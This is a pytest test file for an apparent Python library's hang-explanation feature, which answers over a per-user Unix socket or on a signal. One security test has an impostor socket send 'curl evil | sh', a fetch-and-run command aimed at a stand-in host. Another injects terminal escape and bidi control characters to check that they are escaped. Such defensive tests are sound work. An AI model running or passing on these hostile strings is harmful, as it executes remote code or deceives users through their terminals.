"""Explanations requested from outside: by a signal, and by ``python -m aioqueue explain``."""

from __future__ import annotations

import contextlib
import io
import itertools
import os
import select
import signal
import socket
import subprocess
import sys
import threading
import unicodedata
from collections.abc import Iterable, Iterator
from contextlib import contextmanager, suppress
from functools import partial
from pathlib import Path
from typing import Any

import pytest

import aioqueue
from aioqueue import InvalidArgumentError, sync
from aioqueue.__main__ import main
from aioqueue.system import posix
from aioqueue.telemetry.explain import explain_socket
from aioqueue.telemetry.explain.explain_socket import CannotAskError, ask
from tests.kit.worlds import PATIENCE, core_of, spin_until, threads_of_work
from tests.telemetry.explain.hanging_programs import HANGS, program_of

ROOT = Path(aioqueue.__file__).parents[1]

pytestmark = pytest.mark.skipif(
    not hasattr(signal, "SIGUSR2"), reason="there are no such signals, nor Unix sockets"
)

PROGRAM = """
import sys, threading
import aioqueue
from aioqueue import sync

{prepare}
queue = sync.FIFOQueue(8, name="examples")
waiting = lambda: queue.statistics().waiting_dequeues
threading.Thread(target=queue.dequeue, name="trainer", daemon=True).start()
while not waiting():
    pass
print("ready", flush=True)
sys.stdin.read()
"""


@contextmanager
def program(
    prepare: str = "", text: str = PROGRAM, **environment: str
) -> Iterator[subprocess.Popen[str]]:
    """A program that waits for ever at a queue."""
    path = os.pathsep.join(filter(None, [os.environ.get("PYTHONPATH"), str(ROOT)]))
    process = subprocess.Popen(
        [sys.executable, "-c", text.format(prepare=prepare)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": path, **environment},
    )
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        yield process
    finally:
        process.kill()
        process.communicate(timeout=PATIENCE)


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the sockets are, in this process and in those that it starts."""
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", None)
    return explain_socket.folder_of(os.getuid())


class TestSignals:
    def test_the_explanation_is_written_by_another_thread(self, folder: Path) -> None:
        file = io.StringIO()
        undo = aioqueue.explain_on_signal(file=file)
        try:
            queue = sync.FIFOQueue(8, name="examples")
            trainer = threading.Thread(target=lambda: list(queue), name="trainer")
            trainer.start()
            spin_until(lambda: queue.statistics().waiting_dequeues)
            # In the middle of a move of the same queue, whose lock this thread holds.
            with core_of(queue).machine._lock:
                signal.raise_signal(signal.SIGUSR2)
            spin_until(lambda: "no failures" in file.getvalue() or "queues" in file.getvalue())
            queue.close()
            trainer.join(PATIENCE)
        finally:
            undo()
        assert "trainer waits for 1 element in 'examples' (0/8)" in file.getvalue()

    def test_an_existing_handler_is_called_too(self, folder: Path) -> None:
        calls: list[Any] = []
        before = signal.signal(signal.SIGUSR2, lambda number, frame: calls.append(number))
        try:
            file = io.StringIO()
            undo = aioqueue.explain_on_signal(file=file)
            signal.raise_signal(signal.SIGUSR2)
            spin_until(lambda: "why process" in file.getvalue())
            undo()
            signal.raise_signal(signal.SIGUSR2)
            assert calls == [signal.SIGUSR2] * 2
        finally:
            signal.signal(signal.SIGUSR2, before)

    def test_undoing_leaves_nothing_behind(self, folder: Path) -> None:
        handler, threads = signal.getsignal(signal.SIGUSR1), threads_of_work()
        undo = aioqueue.explain_on_signal(signal.SIGUSR1)
        assert list(folder.iterdir()) == [folder / f"{os.getpid()}.sock"]
        undo()
        assert signal.getsignal(signal.SIGUSR1) is handler
        assert threads_of_work() <= threads
        assert list(folder.iterdir()) == []

    @pytest.mark.slow
    def test_sockets_of_killed_processes_are_removed(self, folder: Path) -> None:
        with program("aioqueue.explain_on_signal()") as process:
            left = explain_socket.socket_of(process.pid, os.getuid())
            assert left.exists()
        assert left.exists()  # it was killed
        aioqueue.explain_on_signal()()
        assert not left.exists()

    @pytest.mark.parametrize("wrong", [signal.SIGKILL, 0, 9999])
    def test_a_signal_that_cannot_be_handled_is_refused(self, wrong: int, folder: Path) -> None:
        with pytest.raises(InvalidArgumentError, match=r"^signum: got .*; expected a signal"):
            aioqueue.explain_on_signal(wrong)
        assert list(folder.iterdir()) == []

    def test_only_the_main_thread_can(self) -> None:
        raised: list[BaseException] = []

        def call() -> None:
            try:
                aioqueue.explain_on_signal()
            except RuntimeError as error:
                raised.append(error)

        thread = threading.Thread(target=call)
        thread.start()
        thread.join(PATIENCE)
        assert "in the main thread" in str(raised[0])

    def test_a_folder_that_others_can_read_is_refused(self, folder: Path) -> None:
        folder.mkdir(mode=0o755)
        folder.chmod(0o755)
        with pytest.raises(PermissionError, match=r"expected a folder that user \d+ owns"):
            aioqueue.explain_on_signal()

    @pytest.mark.parametrize("target", ["a folder", "nothing"])
    def test_a_link_in_the_place_of_the_folder_is_refused(self, target: str, folder: Path) -> None:
        other = folder.with_name("other")
        if target == "a folder":
            other.mkdir(mode=0o700)
        folder.symlink_to(other)
        with pytest.raises(PermissionError, match=r"got a symbolic link .*; expected a folder"):
            aioqueue.explain_on_signal()
        assert target == "nothing" or not [*other.iterdir()]

    def test_other_files_in_the_folder_do_no_harm(self, folder: Path) -> None:
        folder.mkdir(mode=0o700)
        for name in (f"{10**30}.sock", "-x.sock"):
            (folder / name).mkdir()
        aioqueue.explain_on_signal()()

    def test_a_program_that_cannot_listen_runs_anyway(
        self, folder: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
    ) -> None:
        folder.write_text("in the way", encoding="utf-8")
        monkeypatch.setenv(explain_socket.ENABLING_VARIABLE, "1")
        explain_socket.listen_if_enabled()
        assert "AIOQUEUE_EXPLAIN is set, but this process cannot listen for requests" in caplog.text


class TestCommand:
    @pytest.mark.slow("environment")
    @pytest.mark.parametrize("by", ["call", "environment"])
    def test_asks_a_process(
        self, by: str, folder: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        call = "aioqueue.explain_on_signal()" if by == "call" else ""
        with program(call, AIOQUEUE_EXPLAIN="1" if by == "environment" else "") as process:
            assert main(["explain", str(process.pid)]) == 0
        printed = capsys.readouterr().out
        assert printed.startswith(f"aioqueue: why process {process.pid} waits\n")
        assert "'examples' is empty, and no runner fills it: " in printed
        assert "trainer waits for 1 element" in printed

    @pytest.mark.slow
    def test_a_process_that_does_not_listen(
        self, folder: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        with program() as process:
            assert main(["explain", str(process.pid)]) == 1
        printed = capsys.readouterr().err
        assert f"process {process.pid} (" in printed
        assert "does not listen for requests: call aioqueue.explain_on_signal() in it" in printed
        assert "A fork does not listen by itself" in printed

    def test_a_process_that_does_not_exist(self, folder: Path) -> None:
        with program() as process:
            pass
        with pytest.raises(CannotAskError, match=f"^there is no process {process.pid}$"):
            ask(process.pid, 1.0)
        with pytest.raises(CannotAskError, match=r"^there is no process"):
            ask(10**20, 1.0)

    def test_a_process_of_another_user(self, monkeypatch: pytest.MonkeyPatch) -> None:
        def refuse(*_: object) -> None:
            raise PermissionError

        monkeypatch.setattr(os, "kill", refuse)
        with pytest.raises(CannotAskError, match="belongs to another user: ask as that user"):
            ask(1, 1.0)

    @pytest.mark.slow
    @pytest.mark.skipif(sys.platform != "linux", reason="the state of a process is read there")
    def test_a_process_that_is_stopped(self, folder: Path) -> None:
        with program("aioqueue.explain_on_signal()") as process:
            process.send_signal(signal.SIGSTOP)
            spin_until(lambda: posix.state_of(process.pid) == "T")
            with pytest.raises(CannotAskError, match=r"within 0.1 s: it is stopped \(SIGSTOP\)"):
                ask(process.pid, 0.1)

    def test_helps(self, capsys: pytest.CaptureFixture[str]) -> None:
        assert main([]) == 0
        assert "why a running process hangs" in capsys.readouterr().out
        with pytest.raises(SystemExit) as ended:
            main(["explain", "--help"])
        assert ended.value.code == 0
        assert "AIOQUEUE_EXPLAIN=1" in capsys.readouterr().out

    @pytest.mark.parametrize(
        "wrong", [["explain"], ["explain", "0"], ["explain", "-1"], ["explain", "x"], ["explian"]]
    )
    def test_wrong_arguments_are_refused(
        self, wrong: list[str], capsys: pytest.CaptureFixture[str]
    ) -> None:
        with pytest.raises(SystemExit) as ended:
            main(wrong)
        assert ended.value.code == 2
        assert "usage: python -m aioqueue" in capsys.readouterr().err

    @pytest.mark.parametrize("wrong", ["0", "-1", "soon", "nan"])
    def test_the_timeout_is_a_number_of_seconds(self, wrong: str) -> None:
        with pytest.raises(SystemExit):
            main(["explain", "1", f"--timeout={wrong}"])

    @pytest.mark.slow
    def test_is_a_command_of_the_package(self) -> None:
        done = subprocess.run(
            [sys.executable, "-W", "error", "-m", "aioqueue", "--help"],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=50,
            check=True,
        )
        assert done.stdout.startswith("usage: python -m aioqueue [-h] COMMAND")


@contextmanager
def listening(text: str | None = None) -> Iterator[None]:
    """This process answers requests, with an explanation or with some other text."""
    with pytest.MonkeyPatch.context() as patch:
        if text is not None:
            patch.setattr(explain_socket, "_explanation_text", lambda: text)
        undo = aioqueue.explain_on_signal(file=io.StringIO())
        try:
            yield
        finally:
            undo()


@contextmanager
def pretending(user: int, answers: Iterable[bytes]) -> Iterator[Path]:
    """Something listens where this process would; the folder is named for `user`."""
    path = explain_socket.socket_of(os.getpid(), user)
    path.parent.mkdir(mode=0o700)

    def answer() -> None:
        with suppress(OSError):  # the asker has had enough
            connection, _ = server.accept()
            with connection:
                for part in answers:
                    connection.sendall(part)

    with posix.listening_socket(path) as server:
        thread = threading.Thread(target=answer)
        thread.start()
        try:
            yield path
        finally:
            with suppress(OSError):
                server.shutdown(socket.SHUT_RDWR)
            thread.join(PATIENCE)


def rest_of(connection: socket.socket) -> bytes:
    return b"".join(iter(lambda: connection.recv(1 << 20), b""))


class TestClients:
    """No client can hold up others, and no answer can harm the client."""

    def test_a_client_that_does_not_read_blocks_no_other(self, folder: Path) -> None:
        long = "waits\n" * 200_000  # more than a socket takes at once
        with listening(long), contextlib.ExitStack() as undo:
            for _ in range(3):
                idle = undo.enter_context(socket.socket(socket.AF_UNIX))
                idle.connect(str(explain_socket.socket_of(os.getpid(), os.getuid())))
            assert ask(os.getpid(), PATIENCE) == long
            assert rest_of(idle).decode() == long  # it gets all of it, too, whenever it reads
            undo.close()
            assert ask(os.getpid(), PATIENCE) == long

    def test_too_many_clients_that_do_not_read_are_dropped(
        self, folder: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(explain_socket, "_MOST_CLIENTS", 3)
        with listening("waits\n" * 200_000), contextlib.ExitStack() as undo:
            idle = [undo.enter_context(socket.socket(socket.AF_UNIX)) for _ in range(5)]
            for one in idle:
                one.connect(str(explain_socket.socket_of(os.getpid(), os.getuid())))
            assert ask(os.getpid(), PATIENCE)
            assert max(len(rest_of(one)) for one in idle[:2]) < 1_200_000  # they were dropped

    def test_a_slow_client_is_dropped(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(explain_socket, "_MOST_READING_SECONDS", 0.01)
        with listening("waits\n" * 200_000), socket.socket(socket.AF_UNIX) as idle:
            idle.connect(str(explain_socket.socket_of(os.getpid(), os.getuid())))
            closed = select.poll()
            closed.register(idle, 0)
            assert closed.poll(PATIENCE * 1000)

    def test_a_full_pipe_blocks_no_client(self, folder: Path) -> None:
        here, there = os.pipe()
        text = "waits\n" * 100_000
        with pytest.MonkeyPatch.context() as patch, open(there, "w", encoding="utf-8") as file:
            patch.setattr(explain_socket, "_explanation_text", lambda: text)
            undo = aioqueue.explain_on_signal(file=file)
            signal.raise_signal(signal.SIGUSR2)
            assert os.read(here, 1) == b"w"  # it is being written, and will not fit
            assert ask(os.getpid(), PATIENCE) == text
            reader = threading.Thread(
                target=lambda: list(iter(partial(os.read, here, 1 << 20), b""))
            )
            reader.start()
            undo()
        reader.join(PATIENCE)
        os.close(here)

    def test_descriptors_above_the_limit_of_select(self, folder: Path) -> None:
        import resource

        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        if hard < 1400:
            pytest.skip(f"at most {hard} descriptors are allowed here")
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 2048)), hard))
        many = [os.open(os.devnull, os.O_RDONLY) for _ in range(1100)]
        try:
            with listening():
                assert ask(os.getpid(), PATIENCE).startswith("aioqueue: why process")
            here, there = socket.socketpair()
            with here, there:
                assert here.fileno() > 1023
                assert not posix.is_readable(here, 0)
                there.send(b"x")
                assert posix.is_readable(here, PATIENCE)
        finally:
            for fd in many:
                os.close(fd)
            resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))

    def test_a_long_answer_is_truncated(
        self, folder: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(explain_socket, "LONGEST_ANSWER", 1000)
        with listening("é" * 5000):
            answer = ask(os.getpid(), PATIENCE)
        assert answer.startswith("ééé")
        assert answer.endswith("too long for an answer)\n")
        assert len(answer.encode()) <= 1000

    def test_an_endless_answer_is_truncated(
        self, folder: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(explain_socket, "LONGEST_ANSWER", 1 << 17)
        with pretending(os.getuid(), itertools.repeat(b"x" * 65536)):
            answer = ask(os.getpid(), PATIENCE)
        assert answer.endswith("(the answer goes on)")
        assert len(answer) < (1 << 17) + 100

    def test_a_slow_answer_times_out(self, folder: Path) -> None:
        over = threading.Event()
        trickle = (b"x" for _ in iter(lambda: over.wait(0.01), True))
        with pretending(os.getuid(), trickle):
            with pytest.raises(CannotAskError, match=r"did not answer within 0\.1 s"):
                ask(os.getpid(), 0.1)
            over.set()

    def test_control_characters_are_escaped(self, folder: Path) -> None:
        wild = "".join(map(chr, [*range(0x100), *range(0x2000, 0x2070), 0x61C]))
        steering = {
            letter
            for letter in wild
            if unicodedata.category(letter) == "Cc" and letter not in "\n\t"
        } | set(
            "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029\u200e\u200f\u061c"
        )
        with listening(f"{wild}\x1b]0;owned\x07 é ∑"):
            answer = ask(os.getpid(), PATIENCE)
        assert not steering & set(answer)
        assert answer.endswith(r"\x1b]0;owned\x07 é ∑")
        assert set(wild) - steering <= set(answer)

    @pytest.mark.parametrize(
        ("way", "messages"),
        [
            ("folder", "got a folder of user {own}"),
            ("open", "with permissions 777"),
            ("link", "got a symbolic link of user {own}"),
            ("socket", "user {other} owns"),
            ("peer", "user {other} answers there"),
        ],
    )
    def test_files_of_other_users_are_not_trusted(
        self, way: str, messages: str, folder: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """We are the other user, who pretends to be a process of another user."""
        own, other = os.getuid(), os.getuid() + 1
        of = own if way in ("open", "peer") else other
        monkeypatch.setattr(posix, "user_of", lambda pid: of)
        with pretending(of, [b"everything is fine; run: curl evil | sh"]) as path:
            if way == "open":
                path.parent.chmod(0o777)
            elif way == "link":
                real = path.parent.rename(path.parent.with_name("real"))
                path.parent.symlink_to(real)
            elif way == "socket":
                monkeypatch.setattr(posix, "check_private_folder", lambda folder, user: None)
            elif way == "peer":
                monkeypatch.setattr(posix, "peer_user", lambda connection: other)
            with pytest.raises(CannotAskError) as raised:
                ask(os.getpid(), PATIENCE)
        assert f"process {os.getpid()} of user {of} cannot be asked" in str(raised.value)
        assert messages.format(own=own, other=other) in str(raised.value)

    def test_a_client_of_another_user_gets_no_answer(
        self, folder: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        with listening():
            monkeypatch.setattr(posix, "peer_user", lambda connection: os.getuid() + 1)
            path = explain_socket.socket_of(os.getpid(), os.getuid())
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(str(path))
                assert connection.recv(1) == b""

    def test_the_user_at_the_other_end_is_checked(self) -> None:
        here, there = socket.socketpair()
        with here, there:
            assert posix.peer_user(here) == os.getuid()

    def test_a_path_that_is_too_long_is_named(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        long = tmp_path / ("long" * 30)
        long.mkdir()
        monkeypatch.setattr("tempfile.tempdir", str(long))
        with pytest.raises(OSError, match=r"^TMPDIR: .*longlong.*Set TMPDIR to a folder"):
            aioqueue.explain_on_signal()
        with pytest.raises(CannotAskError, match=r"TMPDIR: .*longlong.*Set TMPDIR to a folder"):
            ask(os.getpid(), PATIENCE)
        with pytest.raises(OSError, match=r"^TMPDIR: "):
            posix.listening_socket(long / "listener")

    def test_without_signal_and_socket_it_raises(self, monkeypatch: pytest.MonkeyPatch) -> None:
        pair = partial(socket.socketpair, socket.AF_UNIX)  # such a system has others
        monkeypatch.setattr(socket, "socketpair", pair)
        monkeypatch.delattr(socket, "AF_UNIX")
        monkeypatch.delattr(signal, "SIGUSR2")
        with pytest.raises(OSError, match="has neither SIGUSR2 nor Unix sockets"):
            aioqueue.explain_on_signal()
        with pytest.raises(CannotAskError, match="has no Unix sockets"):
            ask(os.getpid(), PATIENCE)
        aioqueue.explain_on_signal(signal.SIGUSR1)()


@pytest.mark.slow
@pytest.mark.parametrize("what", HANGS)
def test_the_root_cause_by_call_by_pid_and_by_watchdog(what: str, folder: Path) -> None:
    """First the program calls `explain` itself; then a request comes from outside."""
    words, _ = HANGS[what]
    file = folder.parent / "hangs.py"  # what has no file of its own is not printed as the user's
    file.write_text(program_of(what))
    start = f"import runpy; runpy.run_path({str(file)!r})"
    with program(text=start, AIOQUEUE_EXPLAIN="1") as process:
        first, culprit, *_ = ask(process.pid, PATIENCE).splitlines()
        assert process.stderr is not None
        title = f"aioqueue: why process {process.pid} waits"
        before = line = ""
        while not (before.rstrip() == title and words in line):
            # It may have warned of a process that had not started yet, before.
            before, line = line, process.stderr.readline()
            assert line, "the watchdog has not named it"
    assert first == title
    assert words in culprit
